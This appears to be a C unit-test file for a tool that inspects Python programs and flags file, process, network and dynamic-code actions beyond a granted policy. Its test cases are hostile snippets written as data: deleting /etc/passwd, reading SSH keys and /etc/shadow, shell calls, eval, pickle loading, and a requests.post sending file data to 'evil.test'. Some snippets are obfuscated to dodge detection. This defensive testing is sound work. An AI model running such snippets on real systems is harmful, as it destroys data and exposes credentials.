/* Inspection of Python: which programs give which findings, and that ordinary ones give none. */
#include "../../core/inspect/inspect.h"

#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#define COUNT(table) (sizeof(table) / sizeof *(table))
static const char root[] = "/nowhere/case", home[] = "/nowhere/home";
static const char usual[] = "stdout,time,random,file.read=./data/*";

/* What the reader says of a program. */
static char *read_program(const void *program, size_t len)
{
    char path[] = "/tmp/techo-inspect-XXXXXX", command[200];
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, program, len), len);
    close(fd);
    assert_true(snprintf(command, sizeof command, "/usr/bin/python3 -I core/inspect/%s %s", inspect_tool("python"),
                         path) < (int)sizeof command);
    FILE *reader = popen(command, "r");
    assert_non_null(reader);
    struct buf out;
    buf_init(&out, 16 << 20);
    char chunk[65536];
    for (size_t n; (n = fread(chunk, 1, sizeof chunk, reader)) > 0;) {
        buf_add(&out, chunk, n);
    }
    assert_int_equal(pclose(reader), 0);
    unlink(path);
    return buf_steal(&out);
}

/* "line severity rule permission; " of each finding. */
static char *inspect_bytes(const void *program, size_t len, const char *ceiling_text, const char *declared_text)
{
    struct policy ceiling, declared = {0};
    struct grant_request requests[8];
    struct inspection inspection;
    struct err err;
    struct buf out;
    assert_int_equal(policy_parse(ceiling_text, &ceiling, &err), 0);
    if (declared_text) {
        assert_int_equal(policy_parse(declared_text, &declared, &err), 0);
    }
    for (size_t i = 0; i < declared.count; i++) {
        requests[i] = (struct grant_request){.item = &declared.items[i], .origin = GRANT_LINE};
    }
    char *output = read_program(program, len);
    struct inspect_input input = {.output = output,
                                  .len = strlen(output),
                                  .root = root,
                                  .home = home,
                                  .ceiling = &ceiling,
                                  .declared = requests,
                                  .declared_count = declared.count};
    if (inspect_judge(&input, &inspection, &err) < 0) {
        fail_msg("%s: %s", err.text, output);
    }
    buf_init(&out, 1 << 20);
    buf_add_text(&out, inspection.syntax_error ? "syntax error" : "");
    for (size_t i = 0; i < inspection.count; i++) {
        const struct inspect_finding *finding = &inspection.findings[i];
        assert_true(finding->text[0] && !strchr(finding->text, '\n'));
        assert_true(finding->column >= 1 && finding->end_line >= finding->line);
        buf_addf(&out, "%u %s %s %s; ", finding->line, finding->severity, finding->rule,
                 finding->permission ? finding->permission : "-");
    }
    inspection_done(&inspection);
    policy_done(&ceiling);
    policy_done(&declared);
    free(output);
    return buf_steal(&out);
}

struct trial {
    const char *program, *findings;
};

static void check(const struct trial *trials, size_t count, const char *ceiling, const char *declared)
{
    for (size_t i = 0; i < count; i++) {
        char *findings = inspect_bytes(trials[i].program, strlen(trials[i].program), ceiling, declared);
        if (strcmp(findings, trials[i].findings) != 0) {
            fail_msg("%s\nunder %s\nfinds: %s\nnot:   %s", trials[i].program, ceiling, findings, trials[i].findings);
        }
        free(findings);
    }
}

static void files_outside_what_is_granted(void **state)
{
    (void)state;
    static const struct trial trials[] = {
        {"import os\nos.remove('/etc/passwd')", "2 block delete file.write=/etc/passwd; "},
        {"print(open('.env').read())", "1 warn read file.read=./.env; "},
        {"open('/etc/passwd')", "1 block read file.read=/etc/passwd; "},
        {"open('data/../../x')", "1 block read file.read=/nowhere/x; "},
        {"import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))", "2 block read file.read=~/.ssh/id_rsa; "},
        {"from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
         "2 block read file.read=~/.ssh/id_rsa; "},
        {"import pathlib as p\nx = p.Path('docs')\nfor f in ['a', 'b']:\n    (x / f).read_bytes()",
         "4 warn read file.read=./docs/a; 4 warn read file.read=./docs/b; "},
        {"import pandas as pd\npd.read_csv(filepath_or_buffer='secret.csv')", "2 warn read file.read=./secret.csv; "},
        {"def load(name):\n    return open('/etc/' + name)\nload('shadow')", "2 block read file.read=/etc/shadow; "},
        {"name = input()\nopen(f'/etc/{name}')", "2 block read file.read=/etc/*; "},
        {"for f in ['.env', './.env', '/proc/self/cwd/.env']:\n    open(f)", "2 warn read file.read=./.env; "},
        {"import os\nos.listdir('/')", "2 block read -; "},
        {"import glob\nglob.glob('/home/*/.ssh/*')", "2 block read file.read=/home/*/.ssh/*; "},
        {"open('data/x.csv', 'w')", "1 block write file.write=./data/x.csv; "},
        {"open('data/x.csv', mode='a+')", "1 block write file.write=./data/x.csv; "},
        {"m = 'w'\nopen('x', m)", "2 block write file.write=./x; "},
        {"df.to_csv('result.csv')", "1 block write file.write=./result.csv; "},
        {"import matplotlib.pyplot as plt\nplt.savefig('a.png')", "2 block write file.write=./a.png; "},
        {"from shutil import rmtree as r\nr('data')", "2 block delete file.write=./data; "},
        {"from pathlib import Path\nPath('data/x').unlink()", "2 block delete file.write=./data/x; "},
        {"import shutil\nshutil.copy('.env', 'out/env')", "2 warn read file.read=./.env; "},
        {"import os\nos.rename('data/a', 'data/b')",
         "2 block change file.write=./data/a; 2 block change file.write=./data/b; "},
        {"import os\nos.makedirs('data/new')", "2 block change file.write=./data/new; "},
        {"import os\nos.open('data/x', os.O_WRONLY | os.O_CREAT)", "2 block write file.write=./data/x; "},
        {"import os, sys\nos.remove(sys.argv[1])", "2 note delete -; "},
        {"open('/etc/\\ud800')", "1 block read file.read=/etc/\xef\xbf\xbd; "},
        {"x = '.env'\nx += '.local'\nopen(x)", "3 warn read file.read=./.env.local; "},
    };
    check(trials, COUNT(trials), usual, NULL);
}

static void programs_and_code(void **state)
{
    (void)state;
    static const struct trial trials[] = {
        {"import os\nos.system('ls')", "2 block process exec=sh; "},
        {"from os import system as s\ns('ls')", "2 block process exec=sh; "},
        {"import os\nf = os.system\nf('ls')", "3 block process exec=sh; "},
        {"from os import *\nsystem('ls')", "2 block process exec=sh; "},
        {"__import__('os').system('ls')", "1 block process exec=sh; "},
        {"import os\ngetattr(os, 'sys' + 'tem')('ls')", "2 block process exec=sh; "},
        {"import sys\nsys.modules['os'].system('ls')", "2 block process exec=sh; "},
        {"import importlib\nimportlib.import_module('subprocess').run(['id'])", "2 block process exec=id; "},
        {"import subprocess\nsubprocess.run(['ls', '-l'])", "2 block process exec=ls; "},
        {"import subprocess\nsubprocess.run('ls', shell=True)", "2 block process exec=sh; "},
        {"import subprocess, sys\nsubprocess.Popen(sys.argv)", "2 block process exec; "},
        {"eval(input())", "1 block dynamic-code exec; "},
        {"eval(b + c)", "1 block dynamic-code exec; "},
        {"exec(open('data/x').read())", "1 block dynamic-code exec; "},
        {"import builtins\nbuiltins.eval(x)", "2 block dynamic-code exec; "},
        {"\xf0\x9d\x98\xa6val(x)", "1 block dynamic-code exec; 1 warn invisible-text -; "},
        {"exec(\"import os\\nos.system('ls')\")", "1 block process exec=sh; "},
        {"code = \"import os\\nos.system('ls')\"\nexec(compile(code, 'x', 'exec'))", "2 block process exec=sh; "},
        {"import pickle\npickle.loads(b)", "2 block pickle exec; "},
        {"import pandas as pd\npd.read_pickle('data/x.pkl')", "2 block pickle exec; "},
        {"import numpy as np\nnp.load('data/x.npy', allow_pickle=True)", "2 block pickle exec; "},
        {"import ctypes", "1 block native-code exec; "},
        {"__import__('ctypes')", "1 block native-code exec; "},
        {"__import__(name)", "1 block dynamic-code exec; "},
        {"().__class__.__base__.__subclasses__()", "1 warn introspection -; "},
    };
    check(trials, COUNT(trials), usual, NULL);
    static const struct trial granted[] = {
        {"eval(input())\nimport pickle, ctypes, os\npickle.loads(b)\nos.system('ls')", ""},
    };
    check(granted, COUNT(granted), "stdout,exec", NULL);
    static const struct trial one[] = {
        {"import subprocess\nsubprocess.run(['ls'])\nsubprocess.run(['id'])\neval(x)\nimport os\nos.system('ls')",
         "3 block process exec=id; 4 block dynamic-code exec; 6 block process exec=sh; "},
    };
    check(one, COUNT(one), "stdout,exec=ls", NULL);
}

static void network(void **state)
{
    (void)state;
    static const struct trial trials[] = {
        {"import requests\nrequests.post('https://evil.test:8443/x', data=open('data/x'))",
         "2 block network net=evil.test:8443; "},
        {"from urllib.request import urlopen\nurlopen('http://evil.test/')", "2 block network net=evil.test; "},
        {"import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 80))", "3 block network net=10.0.0.1:80; "},
        {"import socket\nwith socket.create_connection(('evil.test', 80)) as s:\n    pass",
         "2 block network net=evil.test:80; "},
        {"import socket\nsocket.gethostbyname(name + '.evil.test')", "2 block network net=*; "},
        {"import pandas as pd\npd.read_csv('https://evil.test/a.csv')", "2 block network net=evil.test; "},
        {"import http.client\nhttp.client.HTTPSConnection('evil.test', 443)", "2 block network net=evil.test:443; "},
        {"import requests\nrequests.get('http://\\ud800\\0.test')", "2 block network -; "}, /* no host has that name */
        {"import requests\nrequests.get('http:///x')", "2 block network net=*; "},
        {"import requests\ns = requests.Session()\ns.get(url)", "3 block network net=*; "},
        {"import urllib.request as u\nr = u.Request(f'http://{h}/')\nu.urlopen(r)", "3 block network net=*; "},
        {"import socket, requests, urllib.request", ""},
        {"import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.connect(('127.0.0.1', 80))", ""},
        {"import requests\nrequests.get('http://localhost:8080/')\nrequests.get('http://127.0.0.1.evil.test')",
         "3 block network net=127.0.0.1.evil.test; "},
    };
    check(trials, COUNT(trials), usual, NULL);
    static const struct trial covered[] = {
        {"import requests\nrequests.get('https://api.test/x')", ""},
        {"import requests\nrequests.get('https://evil.test/x')", "2 block network net=evil.test; "},
    };
    check(covered, COUNT(covered), "stdout,net=api.test", NULL);
}

static void what_was_declared_is_trimmed_and_only_a_warning(void **state)
{
    (void)state;
    static const struct trial trials[] = {
        {"import os\nos.remove('/etc/passwd')", "2 warn delete file.write=/etc/passwd; "},
        {"import requests\nrequests.get('https://evil.test')", "2 warn network net=evil.test; "},
        {"import requests\nrequests.get('https://other.test')", "2 block network net=other.test; "},
        {"open('.env')", "1 warn read file.read=./.env; "},
        {"eval(input())", "1 block dynamic-code exec; "},
    };
    check(trials, COUNT(trials), usual, "file.write=/etc/passwd,net=evil.test,file.read=./.env");
}

static void loops_without_an_end(void **state)
{
    (void)state;
    static const struct trial trials[] = {
        {"while True:\n    pass", "1 warn endless-loop -; "},
        {"x = 1\nwhile 1:\n    for i in x:\n        break", "2 warn endless-loop -; "},
        {"while True:\n    def f():\n        return 1", "1 warn endless-loop -; "},
        {"while True:\n    if x:\n        break", ""},
        {"while True:\n    for i in x:\n        pass\n    else:\n        break", ""},
        {"def f():\n    while True:\n        return 1", ""},
        {"def f():\n    while True:\n        yield 1", ""},
        {"while True:\n    raise ValueError", ""},
        {"import sys\nwhile True:\n    sys.exit()", ""},
        {"while True:\n    line = input()", ""},
        {"while x:\n    pass", ""},
        {"while False:\n    pass", ""},
    };
    check(trials, COUNT(trials), usual, NULL);
}

static void text_that_reads_otherwise(void **state)
{
    (void)state;
    static const struct trial trials[] = {
        {"a = 1\nx = '\xe2\x80\xae' + ''", "2 warn invisible-text -; "}, /* right-to-left override */
        {"x = 'a\xe2\x80\x8b'", "1 warn invisible-text -; "},            /* zero-width space */
        {"p\xd0\xb0th = 1", "1 warn invisible-text -; "},                /* a Cyrillic letter among Latin ones */
        {"\xef\xbb\xbfx = 1", ""},                                       /* a byte order mark */
        {"a\xc3\xb1o = 'Espa\xc3\xb1"
         "a'",
         ""},
        {"\xd0\xb8\xd0\xbc\xd1\x8f = 1", ""},                          /* wholly Cyrillic */
        {"print('\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x94\xac')", ""}, /* joined emoji */
    };
    check(trials, COUNT(trials), usual, NULL);
}

static void ordinary_programs_have_no_findings(void **state)
{
    (void)state;
    static const struct trial trials[] = {
        {"import math\nprint(math.factorial(10))", ""},
        {"def f(n):\n    return f(n + 1)\nf(0)", ""},
        {"import pandas as pd\n"
         "sales = pd.read_csv('data/sales.csv', sep=';', decimal=',', encoding='latin-1')\n"
         "prices = pd.read_parquet('./data/prices')\n"
         "m = sales.merge(prices, on='sku').query('qty > 0').eval('t = qty * price')\n"
         "print(m.groupby('region')['t'].sum().to_json())\n",
         ""},
        {"import glob, json, csv\n"
         "rows = []\n"
         "for path in sorted(glob.glob('data/**/*.jsonl', recursive=True)):\n"
         "    with open(path, encoding='utf-8') as f:\n"
         "        rows += [json.loads(line) for line in f]\n"
         "with open('data/x.csv', newline='') as f:\n"
         "    for row in csv.DictReader(f):\n"
         "        rows.append(row)\n"
         "print(len(rows))",
         ""},
        {"from pathlib import Path\nimport pandas as pd\n"
         "base = Path('data')\n"
         "frames = [pd.read_csv(p) for p in sorted(base.rglob('*.csv'))]\n"
         "out = Path('out')\nout.mkdir(exist_ok=True)\n"
         "pd.concat(frames).to_csv(out / 'all.csv', index=False)\n"
         "(out / 'n.txt').write_text(str(len(frames)))",
         ""},
        {"import os\nDATA = os.path.join(os.getcwd(), 'data')\n"
         "for root, dirs, files in os.walk('.'):\n"
         "    for f in files:\n"
         "        print(os.path.join(root, f))\n"
         "def load(path):\n    return open(path)\n"
         "def save(path, text):\n    open(path, 'w').write(text)\n"
         "load(os.path.join(DATA, 'a.csv'))\nsave('out/a.txt', 'x')",
         ""},
        {"path = 'data/a.csv'\nx = open(path).read()\npath = 'out/b.csv'\nopen(path, 'w').write(x)", ""},
        {"import matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\n"
         "fig, ax = plt.subplots()\nax.plot([1, 2])\nfig.savefig('out/p.png')\nplt.savefig(fname='./out/q.png')",
         ""},
        {"import re, ast\nprint(re.compile('x').match('x'), ast.literal_eval('[1]'), 'a'.replace('a', 'b'))", ""},
        {"import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('create table t(x)')", ""},
        {"import tempfile\nwith open('/tmp/x', 'w') as f:\n    f.write('x')\nopen('/dev/null')", ""},
        {"import pyarrow.parquet as pq\nt = pq.read_table('data/p.parquet')\n"
         "import pyarrow.dataset as ds\nds.dataset('data/', format='parquet')",
         ""},
        {"import pandas as pd\nfor year in (2023, 2024):\n    pd.read_csv(f'data/sales_{year}.csv')", ""},
        {"class A:\n    def __init__(self):\n        self.x = type(self).__name__\nprint(A().__class__.__name__)", ""},
        {"import os\nprint(os.environ.get('TZ'), os.path.exists('.env'), os.path.isfile('/etc/passwd'))", ""},
        {"", ""},
        {"\n\n# nothing\n", ""},
    };
    check(trials, COUNT(trials), usual, NULL);
}

static void what_does_not_parse_is_no_finding(void **state)
{
    (void)state;
    static const struct {
        const char *program;
        size_t len;
    } trials[] = {
        {"def f(:\n", 8},        {"x = 1\0y = 2", 11}, {"x = '\xff\xfe'", 8}, {"# coding: no-such-thing\nx = 1", 29},
        {"  x = 1\n y = 2", 14},
    };
    for (size_t i = 0; i < COUNT(trials); i++) {
        char *findings = inspect_bytes(trials[i].program, trials[i].len, usual, NULL);
        assert_string_equal(findings, "syntax error");
        free(findings);
    }
}

static void repeated(const char *head, const char *part, size_t times, const char *tail, const char *expected)
{
    struct buf program;
    buf_init(&program, 64 << 20);
    buf_add_text(&program, head);
    for (size_t i = 0; i < times; i++) {
        buf_add_text(&program, part);
    }
    buf_add_text(&program, tail);
    char *findings = inspect_bytes(program.data, program.len, usual, NULL);
    if (strncmp(findings, expected, strlen(expected)) != 0) {
        fail_msg("%s%s...: finds %.200s, not %s", head, part, findings, expected);
    }
    free(findings);
    buf_done(&program);
}

static void hostile_programs_are_answered(void **state)
{
    (void)state;
    repeated("", "(", 100000, "", "syntax error");
    repeated("x = ", "-", 100000, "1", "syntax error");
    repeated("x = 1", "+1", 100000, "", "syntax error");
    repeated("x = 'a'\n", "x += 'b'\n", 3000, "open('/etc/passwd')\n", "3002 block read file.read=/etc/passwd; ");
    repeated("x = ['a', 'b']\n", "x = [i + j for i in x for j in x]\n", 60, "open(x[0])\n", "");
    repeated("import os\n", "os.remove('/etc/passwd')\n", 3000, "", "2 block delete file.write=/etc/passwd; ");
    repeated("def f(p):\n    f(p + 'x')\n    open(p)\n", "f('/')\n", 100, "", "");
    repeated("#", "x", 2 << 20, "\n", "1 block uninspected -; ");
}

static void many_findings_hide_nothing(void **state)
{
    (void)state;
    struct buf program;
    buf_init(&program, 1 << 20);
    for (int i = 0; i < 1500; i++) {
        buf_addf(&program, "open('f%d')\n", i);
    }
    buf_add_text(&program, "import os\nos.remove('/etc/passwd')\n");
    char *findings = inspect_bytes(program.data, program.len, usual, NULL);
    assert_non_null(strstr(findings, "1000 warn read file.read=./f999; 1001 block uninspected -; "));
    free(findings);
    buf_done(&program);
}

static void an_answer_that_is_none_is_an_error(void **state)
{
    (void)state;
    static const char *const outputs[] = {
        "",
        "Traceback",
        "null",
        "{}",
        "[]",
        "{\"syntax_error\": false}",
        "{\"syntax_error\": 0, \"facts\": []}",
        "{\"syntax_error\": false, \"facts\": {}}",
        "{\"syntax_error\": false, \"facts\": [1]}",
        "{\"syntax_error\": false, \"facts\": [{\"kind\": \"delete\"}]}",
        "{\"syntax_error\": false, \"facts\": [{\"kind\": \"nothing known\", \"what\": \"x\"}]}",
        "{\"syntax_error\": false, \"facts\": [{\"kind\": 1, \"what\": \"x\"}]}",
    };
    struct policy ceiling;
    assert_int_equal(policy_parse("none", &ceiling, NULL), 0);
    for (size_t i = 0; i < COUNT(outputs); i++) {
        struct inspect_input input = {
            .output = outputs[i], .len = strlen(outputs[i]), .root = root, .ceiling = &ceiling};
        struct inspection inspection;
        struct err err;
        if (inspect_judge(&input, &inspection, &err) != -EBADMSG) {
            fail_msg("accepted: %s", outputs[i]);
        }
    }
    policy_done(&ceiling);
}

static void the_span_is_told_in_bytes(void **state)
{
    (void)state;
    static const char program[] = "import os\n'\xc3\xb1'; os.remove(\n    '/etc/passwd')";
    struct policy ceiling;
    struct inspection inspection;
    assert_int_equal(policy_parse("none", &ceiling, NULL), 0);
    char *output = read_program(program, sizeof program - 1);
    struct inspect_input input = {.output = output, .len = strlen(output), .root = root, .ceiling = &ceiling};
    assert_int_equal(inspect_judge(&input, &inspection, NULL), 0);
    assert_int_equal(inspection.count, 1);
    const struct inspect_finding *finding = &inspection.findings[0];
    assert_int_equal(finding->line, 2);
    assert_int_equal(finding->column, 7);
    assert_int_equal(finding->end_line, 3);
    assert_int_equal(finding->end_column, 18);
    assert_string_equal(finding->text, "os.remove deletes /etc/passwd, which is not granted");
    inspection_done(&inspection);
    policy_done(&ceiling);
    free(output);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(files_outside_what_is_granted),
        cmocka_unit_test(programs_and_code),
        cmocka_unit_test(network),
        cmocka_unit_test(what_was_declared_is_trimmed_and_only_a_warning),
        cmocka_unit_test(loops_without_an_end),
        cmocka_unit_test(text_that_reads_otherwise),
        cmocka_unit_test(ordinary_programs_have_no_findings),
        cmocka_unit_test(what_does_not_parse_is_no_finding),
        cmocka_unit_test(hostile_programs_are_answered),
        cmocka_unit_test(many_findings_hide_nothing),
        cmocka_unit_test(an_answer_that_is_none_is_an_error),
        cmocka_unit_test(the_span_is_told_in_bytes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
